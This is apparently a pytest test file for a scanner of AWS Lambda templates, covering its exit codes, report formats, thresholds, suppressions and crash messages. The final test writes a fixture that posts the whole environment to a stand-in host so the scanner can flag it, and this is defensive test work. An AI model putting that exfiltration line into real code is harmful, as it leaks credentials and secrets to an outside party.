"""`lambdaward scan`: what it prints where, and what it exits with."""

import json
import re

import pytest
from cli_samples import CLEAN, OPEN, WEAK

from lambdaward.findings import Kind, Severity
from lambdaward.rules import load

OPEN_URL = "LWX002"


def test_a_clean_template_exits_with_0_and_says_so(write, run):
    write(**{"template.yaml": CLEAN})
    ran = run("scan")
    assert ran.code == 0
    assert ran.out.endswith("No findings.\n")
    assert ran.err == ""


def test_no_word_at_all_scans_the_current_folder(write, run):
    write(**{"template.yaml": WEAK})
    assert run() == run("scan") == run("scan", ".")


@pytest.mark.parametrize("limit", list(Severity))
def test_findings_at_or_above_the_limit_exit_with_1(write, run, limit):
    write(**{"template.yaml": WEAK})
    (finding,) = json.loads(run("scan", "--select", OPEN_URL, "--format", "json").out)["findings"]
    code = run("scan", "--select", OPEN_URL, "--fail-on", limit.name.lower()).code
    assert code == int(Severity[finding["severity"].upper()] >= limit)


def test_exit_zero_forgives_findings_but_not_lost_input(write, run):
    write(**{"template.yaml": WEAK})
    assert run("scan", "--fail-on", "info", "--exit-zero").code == 0
    write(**{"broken.yaml": "AWSTemplateFormatVersion: x\nResources: {"})
    assert run("scan", "--fail-on", "info", "--exit-zero").code == 4


def test_input_that_cannot_be_read_exits_with_4_and_findings_come_first(write, run):
    write(**{"template.yaml": WEAK, "broken.yaml": "AWSTemplateFormatVersion: x\nResources: {"})
    lost = run("scan")
    assert lost.code == 4
    assert "broken.yaml" in lost.out
    assert run("scan", "--fail-on", "info").code == 1


def test_a_folder_without_templates_exits_with_3_unless_that_is_allowed(write, run):
    write(**{"main.py": "print()\n"})
    ran = run("scan")
    assert (ran.code, ran.out) == (3, "")
    assert ran.err == "error: nothing to scan in .: no template and no CDK output\n"
    assert run("scan", "--allow-empty").code == 0


def test_a_folder_of_terraform_says_what_was_recognised(write, run):
    write(**{f"{name}/main.tf": "" for name in "abcde"})
    ran = run("scan")
    assert ran.code == 3
    assert ran.err.splitlines()[1:] == ["note: a/*.tf, b/*.tf, c/*.tf and 2 more: Terraform is not read yet"]
    assert run("scan", "-q").err.count("\n") == 1
    assert run("scan", "-q", "--allow-empty").err == ""


def test_an_empty_scan_still_writes_what_a_machine_waits_for(write, run):
    ran = run("scan", "--format", "json", "--allow-empty")
    assert ran.code == 0
    assert json.loads(ran.out)["coverage"]["files"] == []


def test_a_path_that_is_not_there_is_wrong_usage(run):
    assert run("scan", "nowhere").code == 2


def test_a_path_is_no_command_and_the_hint_says_which_is(write, run):
    write(**{"template.yaml": CLEAN})
    ran = run("template.yaml")
    assert ran.code == 2
    assert ran.err.startswith("error: `template.yaml` is no command; to scan it: lambdaward scan template.yaml\n")


def test_strict_exits_with_4_when_a_question_stayed_open(write, run):
    write(**{"template.yaml": OPEN})
    assert json.loads(run("scan", "--format", "json").out)["unsettled"]
    assert run("scan").code == 0
    assert run("scan", "--strict").code == 4
    assert run("scan", "--strict", "--parameter", "Auth=AWS_IAM").code == 0
    assert run("scan", "--strict", "--fail-on", "info", "--parameter", "Auth=NONE").code == 1


def test_parameters_come_from_files_and_words_and_the_word_wins(write, run):
    write(**{"template.yaml": OPEN, "values.json": '{"Parameters": {"Auth": "NONE"}}', "more.yaml": "Auth: AWS_IAM\n"})

    def found(*words):
        return OPEN_URL in run("scan", *words).out

    assert found("--parameter-file", "values.json")
    assert not found("--parameter-file", "values.json", "--parameter-file", "more.yaml")
    assert found("--parameter-file", "more.yaml", "--parameter", "Auth=NONE")


def test_thresholds_keep_findings_out_of_the_report_and_say_so(write, run):
    write(**{"template.yaml": WEAK})
    ran = run("scan", "--select", OPEN_URL, "--severity", "critical", "--fail-on", "info")
    assert (ran.code, OPEN_URL in ran.out) == (0, False)
    assert ran.err == "note: 1 finding below --severity or --min-confidence not reported\n"
    assert run("scan", "--severity", "critical", "-q").err == ""


def test_suppressions_in_files_count_unless_the_file_is_a_strangers(write, run):
    write(**{"template.yaml": WEAK.replace("NONE}", "NONE} # lambdaward: ignore[LWX002] a webhook", 1)})
    assert "1 suppressed" in run("scan", "--select", OPEN_URL).out
    assert OPEN_URL in run("scan", "--select", OPEN_URL, "--no-inline-ignores").out


def test_advice_is_given_when_asked_for(write, run):
    write(**{"template.yaml": WEAK})
    advice = {rule.id for rule, _ in load().values() if rule.kind is Kind.ADVICE}

    def found(*words):
        return {finding["id"] for finding in json.loads(run("scan", "--format", "json", *words).out)["findings"]}

    assert not found() & advice
    assert found("--advice") & advice


def test_the_date_to_judge_by_can_be_given(write, run):
    write(**{"template.yaml": "Resources: {F: {Type: AWS::Lambda::Function, Properties: {Runtime: python3.9}}}"})
    assert "LWR001" not in run("scan", "--today", "2024-01-01").out
    assert "LWR001" in run("scan", "--today", "2026-11-23").out


def test_what_git_ignores_or_the_user_excludes_is_left_out(write, run):
    write(
        **{".git/HEAD": "", ".gitignore": "build/\n", "build/a.yaml": CLEAN, "src/b.yaml": CLEAN, "old/c.yaml": CLEAN}
    )

    def read(*words):
        return json.loads(run("scan", "--format", "json", *words).out)["coverage"]["files"]

    assert read() == ["old/c.yaml", "src/b.yaml"]
    assert read("--no-gitignore") == ["build/a.yaml", "old/c.yaml", "src/b.yaml"]
    assert read("--exclude", "old", "--exclude", "*/b.yaml", "--no-gitignore") == ["build/a.yaml"]


def test_a_crash_is_one_line_without_what_was_scanned(write, run, monkeypatch):
    def fail(*_, **__):
        raise ValueError("AKIA" + "X" * 16)

    monkeypatch.setattr("lambdaward.api.scan", fail)
    write(**{"template.yaml": WEAK})
    ran = run("scan")
    assert (ran.code, ran.out) == (70, "")
    assert re.fullmatch(
        r"error: lambdaward itself failed: ValueError at test_scan\.py:\d+; please report it .*\n", ran.err
    )
    monkeypatch.setenv("LAMBDAWARD_TRACEBACK", "1")
    assert "Traceback" in run("scan").err


def test_an_interrupt_ends_the_line_and_no_more(write, run, monkeypatch):
    def interrupt(*_, **__):
        raise KeyboardInterrupt

    monkeypatch.setattr("lambdaward.api.scan", interrupt)
    write(**{"template.yaml": WEAK})
    assert run("scan") == (130, "", "\n")


CODE = "Resources: {Orders: {Type: AWS::Lambda::Function, Properties: {Runtime: python3.13, Code: src}}}"


@pytest.mark.parametrize("there", [True, False])
def test_packages_that_no_yara_rules_were_run_on_are_told_where_coverage_is(run, write, monkeypatch, there):
    monkeypatch.setattr("lambdaward.cli.scanning._has_yara", lambda: there)
    write(**{"template.yaml": CODE, "src/index.py": "x = 1"})
    assert ("packages not searched by YARA rules" in run("scan").out) is not there
    assert ("packages not searched by YARA rules" in run("scan", "--format", "json").err) is not there


def test_code_that_sends_the_environment_away_fails_a_scan(run, write):
    source = "import os, requests\nrequests.post('https://host.invalid', json=dict(os.environ))\n"
    write(**{"template.yaml": CODE, "src/index.py": source})
    ran = run("scan", "--select", "LWP059")
    assert ran.code == 1
    assert "index.py in Orders sends credentials or its whole environment away" in ran.out
    assert "index.py:2: the whole environment is sent away" in ran.out
